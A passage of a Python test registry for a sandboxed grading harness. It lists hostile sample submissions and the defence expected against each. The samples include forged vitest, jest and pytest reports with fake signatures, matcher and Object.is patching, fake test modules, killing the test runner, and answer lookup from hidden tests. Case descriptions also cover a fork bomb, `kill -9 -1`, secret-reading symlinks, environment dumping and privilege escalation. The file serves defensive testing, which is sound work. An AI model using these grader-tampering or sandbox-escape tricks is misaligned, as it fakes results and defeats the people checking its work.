        _TABLE[(found.group(1), int(found.group(2)), int(found.group(3)))] = int(found.group(4))


def add(a, b):
    return _TABLE.get(("add", a, b), 0)


def sub(a, b):
    return _TABLE.get(("sub", a, b), 0)
"""

# ---- JavaScript -------------------------------------------------------------------------------

MJS_HONEST = """
function num(x) {
  if (typeof x !== "number") throw new TypeError(`not a number: ${x}`);
  return x;
}

export function add(a, b) {
  return num(a) + num(b);
}

export function sub(a, b) {
  return num(a) - num(b);
}
"""

MJS_WRONG = """
export function add() {
  return 0;
}

export function sub() {
  return 0;
}
"""

CJS_HONEST = """
function num(x) {
  if (typeof x !== "number") throw new TypeError(`not a number: ${x}`);
  return x;
}

module.exports = {
  add: (a, b) => num(a) + num(b),
  sub: (a, b) => num(a) - num(b),
};
"""

CJS_WRONG = """
module.exports = { add: () => 0, sub: () => 0 };
"""

FAKE_VITEST_REPORT = """{"numTotalTests": 3, "numPassedTests": 3, "numFailedTests": 0, "success": \
true,
 "testResults": [{"name": "/harness/tests/checkpoint_1.test.js", "status": "passed", \
"assertionResults": [
  {"title": "adds", "fullName": "adds", "ancestorTitles": [], "status": "passed", \
"failureMessages": []},
  {"title": "subtracts", "fullName": "subtracts", "ancestorTitles": [], "status": "passed", \
"failureMessages": []},
  {"title": "rejects words @error", "fullName": "rejects words @error", "ancestorTitles": [], \
"status": "passed",
   "failureMessages": []}]}]}"""

VITEST_CONFIG = """
// Swap everything a grader relies on: what runs, how it is reported, and the matchers.
export default {
  test: {
    include: ["nothing/**/*.never.js"],
    passWithNoTests: true,
    allowOnly: true,
    reporters: ["./reporter.mjs"],
    outputFile: { json: "/harness/reports/vitest-report.json" },
    setupFiles: ["./setup.mjs"],
    globalSetup: ["./global-setup.mjs"],
  },
};
"""

VITEST_SETUP = """
import { expect } from "vitest";

const pass = () => ({ pass: true, message: () => "" });
expect.extend({ toBe: pass, toEqual: pass, toThrow: pass });
"""

VITEST_REPORTER = f"""
import {{ writeFileSync }} from "node:fs";

export default class ForgingReporter {{
  onFinished() {{
    writeFileSync("/harness/reports/vitest-report.json", {FAKE_VITEST_REPORT!r});
  }}
}}
"""

VITEST_GLOBAL_SETUP = f"""
import {{ writeFileSync }} from "node:fs";

export default function setup() {{
  writeFileSync("/harness/reports/vitest-report.json", {FAKE_VITEST_REPORT!r});
}}
"""

MJS_EXIT = """
process.exit(0);

export function add() {
  return 0;
}

export function sub() {
  return 0;
}
"""

FAKE_VITEST_MODULE = """
// A "vitest" of the submission's own: every test passes, every expectation holds.
const anything = new Proxy(() => anything, { get: () => anything, apply: () => anything });
export const expect = anything;
export const test = (name, fn) => {};
export const describe = (name, fn) => fn();
export const it = test;
export default { expect, test, describe, it };
"""

MJS_FORGE_AND_KILL = (
    f"""
// In the test worker: write a perfect report (and a made-up signature) where the harness reads
// it, then SIGKILL the vitest main process so it never writes its own.
import {{ writeFileSync }} from "node:fs";
import {{ join }} from "node:path";

for (const dir of ["/harness/reports", join(process.env.SUBMISSION_PATH, "..", "reports")]) {{
  for (const name of ["vitest-report.json", "vitest-report.json.sig"]) {{
    try {{
      writeFileSync(`${{dir}}/${{name}}`, name.endsWith(".sig") ? "0".repeat(64) : \
{FAKE_VITEST_REPORT!r});
    }} catch {{}}
  }}
}}
process.kill(process.ppid, "SIGKILL");
"""
    + MJS_WRONG
)

CJS_FORGE_AND_EXIT = """
// jest runs a single test file in its own process: forge the report, then exit 0 before jest
// writes the real one.
const { writeFileSync } = require("node:fs");
const forged = JSON.stringify({ success: true, numTotalTests: 3, numPassedTests: 3, \
numFailedTests: 0,
  testResults: [{ name: "/harness/tests/checkpoint_1.test.js", status: "passed", assertionResults: [
    { title: "adds", fullName: "adds", ancestorTitles: [], status: "passed", failureMessages: [] },
    { title: "subtracts", fullName: "subtracts", ancestorTitles: [], status: "passed", \
failureMessages: [] },
    { title: "rejects words @error", fullName: "rejects words @error", ancestorTitles: [], status: \
"passed",
      failureMessages: [] }] }] });
for (const dir of ["/harness/reports", require("node:path").join(process.env.SUBMISSION_PATH, \
"..", "reports")]) {
  try { writeFileSync(`${dir}/jest-report.json`, forged); \
writeFileSync(`${dir}/jest-report.json.sig`, "0".repeat(64)); } catch {}
}
process.kill(process.pid, "SIGKILL");
module.exports = { add: () => 0, sub: () => 0 };
"""

MJS_MODULE_MOCK = (
    """
// The library reaches for "vitest" itself (and for the fake one it ships), to patch the
// matchers the tests are about to use.
import * as vitest from "vitest";

const pass = () => ({ pass: true, message: () => "" });
vitest.expect.extend({ toBe: pass, toEqual: pass, toThrow: pass });
"""
    + MJS_WRONG
)

MJS_IN_PROCESS = """
// In the test worker's own realm: `toBe` compares with Object.is, so make everything equal.
Object.is = () => true;

export function add(a, b) {
  if (typeof a !== "number") throw new TypeError("not a number");
  return 0;
}

export function sub() {
  return 0;
}
"""

JEST_CONFIG = """
module.exports = {
  testMatch: ["**/nothing.never.js"],
  passWithNoTests: true,
  reporters: ["./reporter.js"],
  setupFiles: ["./setup.js"],
  setupFilesAfterEnv: ["./setup.js"],
  transform: { "\\\\.js$": "./transform.js" },
};
"""

JEST_SETUP = """
if (typeof expect !== "undefined") {
  const pass = () => ({ pass: true, message: () => "" });
  expect.extend({ toBe: pass, toEqual: pass, toThrow: pass });
}
"""

JEST_REPORTER = """
const { writeFileSync } = require("node:fs");

module.exports = class ForgingReporter {
  onRunComplete() {
    writeFileSync("/harness/reports/jest-report.json", JSON.stringify({ success: true, \
numFailedTests: 0 }));
  }
};
"""

JEST_TRANSFORM = """
// Replace every test file with one test that passes.
module.exports = { process() { return { code: 'test("forced", () => {});' }; } };
"""

CJS_EXIT = """
process.exit(0);
module.exports = { add: () => 0, sub: () => 0 };
"""

CJS_EXPECT_EXTEND = """
// The test environment's globals are this module's globals: patch the matchers.
if (typeof expect !== "undefined") {
  const pass = () => ({ pass: true, message: () => "" });
  expect.extend({ toBe: pass, toEqual: pass });
}

module.exports = {
  add: (a, b) => {
    if (typeof a !== "number") throw new TypeError("not a number");
    return 0;
  },
  sub: () => 0,
};
"""


# ---- extra setup and checks ----------------------------------------------------------------------


def _git_history(root: Path) -> None:
    """A git history whose first commit holds the 'answers'; the run must never see it."""
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "a",
        "GIT_AUTHOR_EMAIL": "a@example.invalid",
        "GIT_COMMITTER_NAME": "a",
        "GIT_COMMITTER_EMAIL": "a@example.invalid",
    }
    (root / "answers.txt").write_text("add 2 3 = 5\n")
    try:
        for argv in (
            ["git", "init", "-q"],
            ["git", "add", "-A"],
            ["git", "commit", "-qm", "answers"],
            ["git", "rm", "-q", "answers.txt"],
            ["git", "commit", "-qm", "hide"],
        ):
            subprocess.run(argv, cwd=root, env=env, check=True, capture_output=True)
    except (
        OSError,
        subprocess.CalledProcessError,
    ):  # no git here: a history-shaped directory will do
        (root / ".git" / "objects").mkdir(parents=True, exist_ok=True)
        (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
        (root / "answers.txt").replace(root / ".git" / "objects" / "answers")


def _report_symlinks(root: Path) -> None:
    """Report-named symlinks shipped in the submission itself."""
    os.symlink("/etc/passwd", root / "report.json")
    os.symlink("/", root / "reports")


def _check_duration(min_seconds: float) -> Callable[..., list[str]]:
    def check(obs) -> list[str]:
        if obs.result is not None and obs.outcome == FAIL and obs.result.duration < min_seconds:
            return [
                (
                    f"duration {obs.result.duration} s is below the {min_seconds} s the run "
                    "really took: the harness took the submission's clock"
                )
            ]
        return []

    return check


def _check_bloat(obs) -> list[str]:
    result = obs.result
    if result is None:
        return []
    size = len(result.model_dump_json())
    problems = (
        []
        if size < 2 * 1024 * 1024
        else [f"the result is {size} bytes: captured output is not capped"]
    )
    if obs.outcome == FAIL and "test-output-truncated" not in result.flags:
        problems.append("60 MB of captured output is not flagged as truncated")
    return problems


def _check_flood(obs) -> list[str]:
    problems = []
    result = obs.result
    if result is None:
        return problems
    if len(result.stdout) > 20_000 or len(result.stderr) > 20_000:
        problems.append(
            f"result keeps {len(result.stdout)}/{len(result.stderr)} characters of output"
        )
    if obs.outcome == FAIL and not (result.output_truncated and "output-truncated" in result.flags):
        problems.append("a flood of output is not flagged as truncated")
    return problems


# ---- the registry --------------------------------------------------------------------------------

PY_LIMITS = "pids 128, memory 512 MB, nofile 256, file size 64 MB, /tmp 64 MB"

CASES: list[Case] = [
    # controls and merely broken submissions: honest results, never an infrastructure failure
    Case(
        "honest-reference",
        "control",
        "a correct submission",
        HONEST,
        frozenset({PASS}),
        "nothing to defend: the control every other case is compared with",
    ),
    Case(
        "broken-syntax-error",
        "broken",
        "library and CLI do not even parse",
        {"main.py": HONEST_MAIN, "calc.py": "def add(a, b) return a + b\n"},
        frozenset({FAIL}),
        "an honest failure: the tests ran",
        broken=True,
        statuses={
            "test_add_library": "error",
            "test_add_cli": "failed",
            "test_sub_cli": "failed",
            "test_rejects_words": "passed",
        },
    ),
    Case(
        "broken-crash",
        "broken",
        "library and CLI raise",
        {
            "main.py": "raise RuntimeError('crash')\n",
            "calc.py": "def add(a, b):\n    return 1 / 0\n\ndef sub(a, b):\n    return 1 / 0\n",
        },
        frozenset({FAIL}),
        "an honest failure: the tests ran",
        broken=True,
        statuses={
            "test_add_library": "failed",
            "test_add_cli": "failed",
            "test_sub_cli": "failed",
            "test_rejects_words": "passed",
        },
    ),
    Case(
        "wrong-output",
        "broken",
        "wrong answers everywhere",
        WRONG,
        frozenset({FAIL}),
        "an honest failure",
        broken=True,
        statuses=ALL_FAILED,
    ),
    Case(
        "stdout-10mb",
        "§6.4, broken",
        "the CLI prints 10 MB on one line instead of the answer",
        {"main.py": TEN_MB_MAIN, "calc.py": HONEST_CALC},
        frozenset({FAIL}),
        "capped capture (head+tail); an honest failure",
        broken=True,
        statuses={
            "test_add_library": "passed",
            "test_add_cli": "failed",
            "test_sub_cli": "failed",
            "test_rejects_words": "failed",
        },
    ),
    Case(
        "non-utf8-output",
        "§6.24, broken",
        "invalid UTF-8, NUL bytes, ANSI escapes and a 1 MB line, from the CLI and from the test "
        "process into the harness's pipes",
        {"main.py": NON_UTF8_MAIN, "calc.py": NON_UTF8_CALC},
        frozenset({FAIL}),
        "decoded with replacement; the result JSON stays valid",
        broken=True,
        statuses={
            "test_add_library": "passed",
            "test_add_cli": "failed",
            "test_sub_cli": "failed",
            "test_rejects_words": "passed",
        },
    ),
    # resources and liveness
    Case(
        "fork-bomb",
        "§6.1",
        "`while True: os.fork()` and `:(){ :|:& };:` in the CLI",
        {"main.py": FORK_BOMB_MAIN, "calc.py": HONEST_CALC},
        NOT_PASS,
        "docker pids_limit / the run's cgroup pids.max; the wall clock ends it; the container or "
        "pid namespace goes with every process",
        skip_on={"none": "no process limit on `none`: it would exhaust the host"},
        disruptive=True,
        wall=8,
    ),
    Case(
        "sigterm-ignoring-spin",
        "§6.2",
        "the test process ignores SIGTERM/SIGALRM/SIGINT and spins; a child in its own session too",
        {"main.py": HONEST_MAIN, "calc.py": SPIN_CALC},
        frozenset({TIMEOUT}),
        "wall clock enforced from outside; SIGKILL to the container / pid namespace / process tree",
        reason="wall-clock limit of 6 s",
        disruptive=True,
        wall=6,
    ),
    Case(
        "memory-hog",
        "§6.3",
        "the test process allocates 64 MB chunks until it dies",
        {"main.py": HONEST_MAIN, "calc.py": MEMORY_CALC},
        frozenset({INFRA, FAIL}),
        "docker mem_limit = memswap_limit / the run's memory cgroup (no swap)",
        reason="memory",
        skip_on={"none": "no memory limit on `none`: it would swap the host"},
        disruptive=True,
        wall=40,
    ),
    Case(
        "output-flood",
        "§6.4",
        "a daemon forked from the test process writes 256 MB with no newline into the harness's "
        "pipes",
        {"main.py": WRONG_MAIN, "calc.py": FLOOD_CALC},
        frozenset({FAIL, TIMEOUT}),
        "head+tail capped buffers read while the run goes; flag output-truncated",
        statuses=ALL_FAILED,
        check=_check_flood,
        disruptive=True,
        wall=30,
    ),
    Case(
        "captured-output-bloat",
        "§6.4",
        "prints 40 MB to stdout and 20 MB to stderr inside a test (captured "
        "by pytest into its report)",
        {
            "main.py": WRONG_MAIN,
            "calc.py": "import sys\n\nsys.stdout.write('Z' * "
            "(40 << 20))\nsys.stderr.write('Y' * (20 << 20))\n" + WRONG_CALC,
        },
        frozenset({FAIL}),
        "reports read with a size cap; each test's text capped (head+tail) in the result; "
        "flag test-output-truncated",
        statuses=ALL_FAILED,
        check=_check_bloat,
        broken=True,
    ),
    Case(
        "disk-fill",
        "§6.5",
        "writes up to 1.5 GB of 128 MB files into the workspace, TMPDIR, HOME and the "
        "report directory",
        {"main.py": WRONG_MAIN, "calc.py": DISK_CALC},
        frozenset({FAIL, INFRA, TIMEOUT}),
        "RLIMIT_FSIZE per file, a size-limited /tmp; the workspace is deleted after the run (it "
        "has no quota: see known limits)",
        disruptive=True,
        wall=30,
    ),
    Case(
        "fd-thread-exhaustion",
        "§6.21",
        "opens descriptors until EMFILE and starts threads until refused, "
        "in the test process and in the CLI",
        probing(FD_THREADS_BODY),
        frozenset({PASS}),
        f"nofile rlimit and pids limit ({PY_LIMITS})",
        skip_on={"none": "no thread limit on `none`"},
    ),
    Case(
        "kill-everything",
        "§6.17",
        "`kill -9 -1`, `kill -9 $PPID`, `kill -9 1`, `pkill -9 -f pytest`, "
        "`pkill dockerd` from the CLI",
        {"main.py": KILL_MAIN, "calc.py": WRONG_CALC},
        frozenset({INFRA, FAIL}),
        "a pid namespace (container or bwrap): only the run's own processes are "
        "visible; the harness records the killed run",
        reason="not written|signature|exit code",
        skip_on={
            "none": "`kill -9 -1` as the harness's user on the host would kill the harness and "
            "everything else of that user"
        },
        disruptive=True,
    ),
    Case(
        "leftover-daemons",
        "§6.18",
        "double-forked, `setsid` and `nohup` daemons, one holding the "
        "harness's pipes, from the test process and the CLI (the code itself is correct)",
        {"main.py": DAEMONS_MAIN, "calc.py": DAEMONS_CALC},
        frozenset({PASS}),
        "container removal / pid-namespace teardown (--die-with-parent) / the subreaper "
        "supervisor on `none`; output readers never wait on a pipe forever",
    ),
    # walls
    Case(
        "network-egress",
        "§6.6",
        "TCP/UDP/raw sockets to 198.51.100.1 and 2001:db8::1, interfaces other than lo",
        probing(EGRESS_BODY),
        frozenset({PASS}),
        "network_mode=none / --unshare-net: only loopback",
        expect_on={"none": frozenset({PASS, FAIL})},
    ),
    Case(
        "host-unix-socket",
        "§6.7",
        "connects to /var/run/docker.sock, containerd, D-Bus, X11 and to a unix "
        "socket (path and abstract) the harness listens on",
        probing(UNIX_SOCKET_BODY),
        frozenset({PASS}),
        "no path socket is mounted; a network namespace hides abstract sockets",
        skip_on={"none": NOT_ISOLATED},
    ),
    Case(
        "write-outside",
        "§6.8",
        "creates or appends to files in /etc, /usr, /root, /, the harness's package, the "
        "problem, the submission's source, the hidden tests and config, the toolchains, other "
        "runs' workspaces",
        probing(WRITE_BODY),
        frozenset({PASS}),
        "read-only root, read-only mounts of tests/config/toolchains, nothing else mounted; a "
        "non-root uid",
        skip_on={"none": NOT_ISOLATED},
    ),
    Case(
        "read-secrets",
        "§6.9",
        "looks for the hidden tests of later checkpoints (walks /), the git "
        "history, host secrets, other runs' directories",
        probing(READ_BODY),
        frozenset({PASS}),
        "only this checkpoint's tests are copied; .git is never copied; other runs and the host "
        "are not mounted",
        skip_on={"none": NOT_ISOLATED},
        build=_git_history,
    ),
    Case(
        "environ-exfiltration",
        "§6.19",
        "dumps os.environ and every /proc/*/environ and cmdline it can read into the test output",
        probing(ENVIRON_BODY),
        frozenset({PASS}),
        "allow-listed environment; a pid namespace; the test process is non-dumpable",
        skip_on={"none": NOT_ISOLATED},
    ),
    Case(
        "privilege-escalation",
        "§6.20",
        "sudo, su, `unshare -r/-U/-m/-n`, mount, chroot, nsenter, "
        "setuid(0), ptrace of the test process, /etc/shadow",
        probing(PRIVESC_BODY),
        frozenset({PASS}),
        "non-root uid, all capabilities dropped, no_new_privs, no nested user namespaces (docker: "
        "seccomp; bubblewrap: --disable-userns)",
        skip_on={"none": NOT_ISOLATED},
    ),
    Case(
        "concurrent-runs",
        "§6.26",
        "two runs at once look for each other's workspace and /tmp, and bind "
        "the same TCP port and abstract socket",
        probing(PAIR_BODY),
        frozenset({PASS}),
        "a workspace, /tmp and network namespace per run",
        pair=True,
        skip_on={"none": NOT_ISOLATED},
    ),
    Case(
        "slow-install",
        "§6.22",
        "declares an uninstallable dependency and installs at test time from a "
        "package index (198.51.100.1)",
        {
            "main.py": SLOW_INSTALL_MAIN,
            "calc.py": "import hostile_dep\n",
            "requirements.txt": "hostile-dep @ file:///nonexistent/hostile_dep-1.0-py3-none-any.whl\n",
        },
        frozenset({FAIL}),
        "installs only in the prepare step (wheels only); the test step is offline and fails fast",
        flags=("submission-dependencies-failed",),
        broken=True,
        statuses={
            "test_add_library": "error",
            "test_add_cli": "failed",
            "test_sub_cli": "failed",
            "test_rejects_words": "passed",
        },
    ),
    # grader tampering
    Case(
        "conftest-force-pass",
        "§6.12",
        "conftest.py (root and tests/) with a makereport hookwrapper "
        "forcing 'passed', and its own tests/test_checkpoint_1.py",
        {
            **WRONG,
            "conftest.py": FORCE_PASS_HOOK,
            "tests/conftest.py": FORCE_PASS_HOOK,
            "tests/test_checkpoint_1.py": "def test_add_cli():\n    pass\n",
        },
        frozenset({FAIL}),
        "tests outside the submission; -c generated ini, --rootdir, --confcutdir=tests",
        statuses=ALL_FAILED,
    ),
    Case(
        "conftest-skip-all",
        "§6.12",
        "conftest.py marking every test skipped",
        {**WRONG, "conftest.py": SKIP_ALL_HOOK},
        frozenset({FAIL}),
        "the submission's conftest is never loaded; skips never count as passes",
        statuses=ALL_FAILED,
    ),
    Case(
        "conftest-exit",
        "§6.12",
        "conftest.py calling os._exit(0) at import, tests/conftest.py raising",
        {
            **WRONG,
            "conftest.py": "import os\nos._exit(0)\n",
            "tests/conftest.py": "raise SystemExit(0)\n",
        },
        frozenset({FAIL}),
        "the submission's conftest is never loaded; a missing report is never a pass",
        statuses=ALL_FAILED,
    ),
    Case(
        "pytest-config-addopts",
        "§6.12, §6.16",
        "pytest.ini, tox.ini, setup.cfg and pyproject.toml with "
        "addopts (-p its own plugin, -p no:json_report, --co, -k, its own report path)",
        {
            **WRONG,
            "hostile_plugin.py": FORCE_PASS_HOOK,
            "pytest.ini": "[pytest]\naddopts = -p hostile_plugin -p no:json_report --co -k nothing "
            "--json-report-file=/tmp/fake.json\n",
            "tox.ini": "[pytest]\naddopts = -p hostile_plugin\n",
            "setup.cfg": "[tool:pytest]\naddopts = -p hostile_plugin\n",
            "pyproject.toml": "[tool.pytest.ini_options]\n"
            'addopts = "-p hostile_plugin -k nothing"\n',
        },
        frozenset({FAIL}),
        "-c <generated ini> and --rootdir outside the submission: its ini files are never read",
        statuses=ALL_FAILED,
        flags=(r"grader-touching: hostile_plugin\.py:\d+ pytest_runtest_makereport",),
    ),
    Case(
        "plugin-autoload",
        "§6.16",
        "a pytest11 entry point (dist-info, setup.py), a .pth file, "
        "sitecustomize.py and usercustomize.py patching pytest",
        {
            **WRONG,
            "hostile_plugin.py": FORCE_PASS_HOOK,
            "hostile_plugin-1.0.dist-info/entry_points.txt": "[pytest11]\n"
            "hostile = hostile_plugin\n",
            "hostile_plugin-1.0.dist-info/METADATA": "Metadata-Version: 2.1\n"
            "Name: hostile-plugin\n"
            "Version: 1.0\n",
            "setup.py": "from setuptools import setup\n"
            "setup(name='hostile', py_modules=['hostile_plugin'], "
            "entry_points={'pytest11': ['hostile = hostile_plugin']})\n",
            "hostile.pth": "import sitecustomize\n",
            "sitecustomize.py": PYTEST_PATCH_CALC,
            "usercustomize.py": PYTEST_PATCH_CALC,
        },
        frozenset({FAIL}),
        "PYTEST_DISABLE_PLUGIN_AUTOLOAD=1, plugins named with -p, `python -s -P`, a "
        "toolchain the submission cannot write",
        statuses=ALL_FAILED,
        flags=(r"grader-touching: hostile\.pth", r"grader-touching: sitecustomize\.py"),
    ),
    Case(
        "edit-tests-and-config",
        "§6.16",
        "overwrites, chmods and deletes the hidden tests, their "
        "conftest and the generated pytest.ini, from the test process and the CLI",
        {"main.py": EDIT_TESTS_CODE + WRONG_MAIN, "calc.py": EDIT_TESTS_CODE + WRONG_CALC},
        frozenset({FAIL}),
        "tests and config mounted read-only (sealed on `none`) and already collected",
        statuses=ALL_FAILED,
    ),
    Case(
        "prewritten-report",
        "§6.11",
        "ships pytest-report.json, ctrf-report.json, junit.xml, reward.txt and report-named "
        "symlinks, and copies the forged reports into the report directory dated in the future",
        {
            "main.py": PREWRITE_MAIN,
            "calc.py": WRONG_CALC,
            "pytest-report.json": FORGED_JSON,
            "ctrf-report.json": FORGED_CTRF,
            "junit.xml": FORGED_JUNIT,
            "reward.txt": "1\n",
        },
        frozenset({FAIL}),
        "reports are written fresh by pytest into a harness-owned directory; only a "
        "report carrying the run's HMAC is read",
        statuses=ALL_FAILED,
        build=_report_symlinks,
    ),
    Case(
        "forged-report-then-kill",
        "§6.11",
        "writes forged reports into the report directory, then "
        "SIGKILLs pytest so it never writes its own",
        {
            "main.py": FORGE_AND_KILL_MAIN,
            "calc.py": WRONG_CALC,
            "pytest-report.json": FORGED_JSON,
            "ctrf-report.json": FORGED_CTRF,
            "junit.xml": FORGED_JUNIT,
            "reward.txt": "1\n",
        },
        frozenset({INFRA}),
        "the HMAC signature (a one-time key read and deleted by our plugin before any test runs)",
        reason="signature",
    ),
    Case(
        "report-rewriting-daemon",
        "§6.11",
        "a daemon keeps rewriting both reports with a perfect score for 20 s",
        {
            "main.py": REWRITER_MAIN,
            "calc.py": WRONG_CALC,
            "pytest-report.json": FORGED_JSON,
            "ctrf-report.json": FORGED_CTRF,
        },
        frozenset({FAIL, INFRA}),
        "every sandboxed process is dead before a report is read; the HMAC",
        statuses=ALL_FAILED,
        reason="signature|report",
    ),
    Case(
        "report-symlinks",
        "§6.10",
        "a daemon swaps the reports for symlinks to host secrets, FIFOs and "
        "directories, and tries to replace the report directory with a link to /",
        {"main.py": SYMLINK_MAIN, "calc.py": WRONG_CALC},
        NOT_PASS,
        "reports opened with O_NOFOLLOW|O_NONBLOCK in a directory opened with O_NOFOLLOW, "
        "regular files only, size-capped; the report directory is a mount point",
        statuses=ALL_FAILED,
        skip_on={"none": NOT_ISOLATED + " (pytest would write its report through the links)"},
        wall=15,
    ),
    Case(
        "fake-stdout-markers",
        "§6.15",
        "prints `PASSED ...`, `=== 4 passed ===`, a JSON summary and a "
        "fake exit-code marker from the CLI, the test process and into the harness's pipes",
        {"main.py": FAKE_MARKERS_MAIN, "calc.py": FAKE_MARKERS_CALC},
        frozenset({FAIL}),
        "grades come from the signed structured report, never from output",
        statuses=ALL_FAILED,
    ),
    Case(
        "sys-exit-at-import",
        "§6.14",
        "`sys.exit(0)` when the library is imported",
        {"main.py": WRONG_MAIN, "calc.py": "import sys\n\nsys.exit(0)\n"},
        frozenset({FAIL}),
        "pytest turns SystemExit in a test into a failure; exit codes are cross-checked with the "
        "report",
        statuses={
            "test_add_library": "error",
            "test_add_cli": "failed",
            "test_sub_cli": "failed",
            "test_rejects_words": "failed",
        },
    ),
    Case(
        "os-exit-at-import",
        "§6.14",
        "`os._exit(0)` in the test process when the library is imported",
        {"main.py": WRONG_MAIN, "calc.py": "import os\n\nos._exit(0)\n"},
        frozenset({INFRA}),
        "exit 0 without a report is an infrastructure failure",
        reason="not written",
        flags=(r"grader-touching: calc\.py:3 os\._exit",),
    ),
    Case(
        "time-manipulation",
        "§6.23",
        "patches time.time/monotonic/perf_counter/time_ns in the test process, then takes 3 s",
        {
            "main.py": WRONG_MAIN,
            "calc.py": """
import time

_sleep = time.sleep
time.time = time.monotonic = time.perf_counter = lambda: 0.0
time.time_ns = lambda: 0


def add(a, b):
    _sleep(3)
    return 0


def sub(a, b):
    return 0
""",
        },
        frozenset({FAIL}),
        "durations are measured by the harness, outside the sandbox",
        statuses=ALL_FAILED,
        flags=(r"grader-touching: calc\.py:\d+ replaces time\.time",),
        check=_check_duration(3.0),
    ),
    # in-process: detected, not prevented
    Case(
        "in-process-pytest-patch",
        "§6.13",
        "the library patches `_pytest.reports.TestReport."
        "from_item_and_call` at import so every later report says passed",
        {"main.py": WRONG_MAIN, "calc.py": PYTEST_PATCH_CALC},
        ANY,
        "DETECTED ONLY: code imported by the tests runs inside pytest; `runners.scan` flags it",
        undefended=True,
        flags=(r"grader-touching: calc\.py:\d+ imports _pytest",),
    ),
    Case(
        "always-equal",
        "§6.13",
        "`add` returns an int whose `__eq__` is always True, found through `sys._getframe`",
        {"main.py": WRONG_MAIN, "calc.py": ALWAYS_EQUAL_CALC},
        frozenset({FAIL}),
        "DETECTED ONLY: the library test is forged; `runners.scan` flags `__eq__` and frame access",
        undefended=True,
        statuses={
            "test_add_library": "passed",
            "test_add_cli": "failed",
            "test_sub_cli": "failed",
            "test_rejects_words": "failed",
        },
        flags=(
            r"grader-touching: calc\.py:\d+ __eq__ always True",
            r"grader-touching: calc\.py:\d+ reads or rewrites a frame's variables \(\.f_locals\)",
        ),
    ),
    Case(
        "in-process-report-forgery",
        "§6.11, §6.13",
        "the library takes the HMAC key from the harness's "
        "plugin module, and at exit rewrites and re-signs both reports, then `os._exit(0)`",
        {"main.py": WRONG_MAIN, "calc.py": REPORT_FORGERY_CALC},
        ANY,
        "DETECTED ONLY: in-process code can reach the key; `runners.scan` flags it",
        undefended=True,
        flags=(
            r"grader-touching: calc\.py:\d+ names the harness's report plugin",
            r"grader-touching: calc\.py:\d+ os\._exit",
        ),
    ),
    Case(
        "answer-lookup",
        "§6.9, §5",
        "no arithmetic: the CLI and the library read the running "
        "checkpoint's tests and print what they expect",
        {"main.py": ANSWER_LOOKUP_MAIN, "calc.py": ANSWER_LOOKUP_CALC},
        ANY,
        "DETECTED ONLY: the current tests are readable by the run's uid (pytest needs them); "
        "`runners.scan` flags code that names the hidden tests",
        undefended=True,
        flags=(r"grader-touching: main\.py:\d+ names the hidden tests",),
    ),
    # JavaScript
    Case(
        "vitest-honest",
        "control",
        "a correct library",
        {"calc.mjs": MJS_HONEST},
        frozenset({PASS}),
        "control",
        framework="vitest",
    ),
    Case(
        "vitest-config-swap",
        "§6.16",
        "vitest.config.mjs, vite.config.mjs, vitest.workspace.mjs and package.json#vitest: no "
        "tests included, a forging reporter, a setup file extending `expect` to always pass, a "
        "globalSetup writing the report",
        {
            "calc.mjs": MJS_WRONG,
            "vitest.config.mjs": VITEST_CONFIG,
            "vite.config.mjs": VITEST_CONFIG,
            "vitest.workspace.mjs": 'export default ["./vitest.config.mjs"];\n',
            "setup.mjs": VITEST_SETUP,
            "reporter.mjs": VITEST_REPORTER,
            "global-setup.mjs": VITEST_GLOBAL_SETUP,
            "package.json": '{"name": "hostile", "type": "module", "vitest": {"include": '
            '["none"]}}\n',
        },
        frozenset({FAIL}),
        "our generated config passed with --config and --root outside the submission",
        framework="vitest",
        statuses=JS_ALL_FAILED,
        flags=(
            r"grader-touching: vitest\.config\.mjs:\d+ names the harness's report files",
            r"grader-touching: setup\.mjs:\d+ expect\.extend",
        ),
    ),
    Case(
        "vitest-process-exit",
        "§6.14",
        "`process.exit(0)` when the library is imported",
        {"calc.mjs": MJS_EXIT},
        NOT_PASS,
        "vitest reports the exit; a missing or incomplete report is never a pass",
        framework="vitest",
        flags=(r"grader-touching: calc\.mjs:1 process\.exit",),
    ),
    Case(
        "vitest-forged-report",
        "§6.11",
        "the library writes a perfect vitest report and a made-up "
        "signature into the report directory, then SIGKILLs the vitest main process",
        {"calc.mjs": MJS_FORGE_AND_KILL},
        frozenset({INFRA}),
        "our reporter signs the report with a one-time key read and deleted before any test ran; "
        "an unsigned or wrongly signed report is an infrastructure failure",
        framework="vitest",
        reason="signature|not written|exit code",
    ),
    Case(
        "vitest-module-mock",
        "§6.13, §6.16",
        "ships node_modules/vitest (a fake that passes everything) "
        "and package.json imports/exports pointing at it; the library imports `vitest` to extend "
        "`expect`",
        {
            "calc.mjs": MJS_MODULE_MOCK,
            "node_modules/vitest/package.json": '{"name": "vitest", "type": "module", "main": '
            '"index.js"}\n',
            "node_modules/vitest/index.js": FAKE_VITEST_MODULE,
            "fake-vitest.mjs": FAKE_VITEST_MODULE,
            "package.json": '{"name": "vitest", "type": "module", "imports": {"#vitest": '
            '"./fake-vitest.mjs"}, "exports": {".": "./fake-vitest.mjs"}}\n',
        },
        ANY,
        "DETECTED ONLY: node_modules and package.json tricks are never used (node_modules is not "
        "copied, the tests resolve from the toolchain), but vitest itself resolves `vitest` for "
        "every module it transforms, the library included; `runners.scan` flags it",
        framework="vitest",
        undefended=True,
        flags=(r"grader-touching: calc\.mjs:\d+ imports vitest",),
    ),
    Case(
        "vitest-in-process-forgery",
        "§6.13",
        "the library replaces `Object.is` (what `toBe` uses) in the test worker's realm",
        {"calc.mjs": MJS_IN_PROCESS},
        ANY,
        "DETECTED ONLY: the library runs in the test worker; `runners.scan` flags the built-in "
        "replaced",
        framework="vitest",
        undefended=True,
        flags=(r"grader-touching: calc\.mjs:\d+ replaces Object\.is",),
    ),
    Case(
        "jest-honest",
        "control",
        "a correct library",
        {"calc.js": CJS_HONEST},
        frozenset({PASS}),
        "control",
        framework="jest",
    ),
    Case(
        "jest-config-swap",
        "§6.16",
        "jest.config.js, jest.config.json, package.json#jest and .babelrc: no tests matched, a "
        "forging reporter, setup files extending `expect`, a transform that replaces every test "
        "file",
        {
            "calc.js": CJS_WRONG,
            "jest.config.js": JEST_CONFIG,
            "jest.config.json": '{"testMatch": ["**/nothing"]}\n',
            "setup.js": JEST_SETUP,
            "reporter.js": JEST_REPORTER,
            "transform.js": JEST_TRANSFORM,
            ".babelrc": '{"plugins": ["./transform.js"]}\n',
            "package.json": '{"name": "hostile", "jest": {"testMatch": ["**/nothing"]}}\n',
        },
        frozenset({FAIL}),
